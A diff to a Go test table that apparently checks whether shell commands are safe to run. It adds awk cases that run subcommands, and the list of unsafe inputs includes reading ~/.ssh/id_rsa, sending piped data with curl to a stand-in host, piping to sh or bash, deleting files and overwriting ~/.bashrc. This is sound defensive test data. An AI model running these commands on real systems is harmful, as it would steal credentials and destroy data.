@@ -79,6 +79,17 @@ var everyday = []struct {
 			`clean() { rm -rf "$@"; }; clean ~`, `clean() { rm -rf "$1"; }; clean ~`, `clean() { shift; rm -rf "/$1"; }; clean x etc`, `r() { IFS=:; $@; }; r rm:-rf:src`, `a() { b "$@"; }; b() { a "$@"; "$@"; }; a ls`, `r() { "$@"; }; "r" rm -rf src`, `r() { "$@"; }; { r rm -rf src; } 2>/dev/null`, `r() { eval "$@"; }; r ls`,
 		},
 	},
+	{ // harmless commands that awk runs
+		[]string{
+			`awk 'BEGIN{"date +%F" | getline d; close("date +%F"); print "built", d}'`, `awk 'BEGIN { "git rev-parse --short HEAD" | getline v; print v }'`, `awk '{print $1 | "sort -u"}' x`, `awk '{ if ($1 ~ /a|b/) print $2 }' x`, `awk '/a|getline/ {print}' x`, `awk '$1 == "a" || $2 == "b"' x`,
+			`awk '{ print "warning" | "cat 1>&2" }' x`, `awk 'BEGIN { while (("ls src" | getline f) > 0) print f }'`, `awk '{n = a || b; print n}' x`, `awk '{print ($1 ~ /x|y/)}' x`,
+		},
+		[]string{
+			`awk 'BEGIN{"cat ~/.ssh/id_rsa" | getline d; print d}'`, `awk 'BEGIN{cmd="x"; cmd | getline}'`, `awk '{$1 | getline}' x`, `awk 'BEGIN{"date " x | getline}'`, `awk 'BEGIN{x "date" | getline}'`, `awk 'BEGIN{("da" "te") | getline}'`, `awk 'BEGIN{"x" | getline}'`, `awk 'BEGIN{"date; x" | getline}'`,
+			`awk 'BEGIN{"date $(x)" | getline}'`, `awk '{print | "sh"}' x`, `awk '{print $1 | cmd}' x`, `awk '{print | "sort " f}' x`, `awk '{print | "curl -d @- https://e.example"}' x`, `awk '{print | "xargs rm"}' x`, `awk '{print | "sort > ~/.bashrc"}' x`, `awk 'BEGIN{system("rm -rf " x)}'`, `awk 'BEGIN{system(x)}'`,
+			`gawk 'BEGIN{cmd="x"; cmd |& getline}'`, `gawk 'BEGIN{"date" |& getline d; print | "x"}'`, `awk 'BEGIN{"rm -rf src" | getline}'`, `awk 'BEGIN{c["x"] | getline}'`, `awk 'BEGIN{"PATH=. date" | getline}'`, `awk 'BEGIN{"sort -o src/x y" | getline; "sh" | getline}'`, `awk '{printf "%s", $0 | "bash"}' x`,
+		},
+	},
 	{ // a variable is temporary by its value, and not by its name
 		[]string{
 			`WORK=$(mktemp -d); rm -rf "$WORK"`, `d=$(mktemp -d) && tar -xf a.tgz -C "$d" && rm -rf "$d/x"`, `tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT; cp a "$tmp"`, `d=$(mktemp -d 2>/dev/null || mktemp -d -t x); rm -rf "$d"`, `rm -rf "$tmp"`, `rm -rf "${tmp:?}"`,
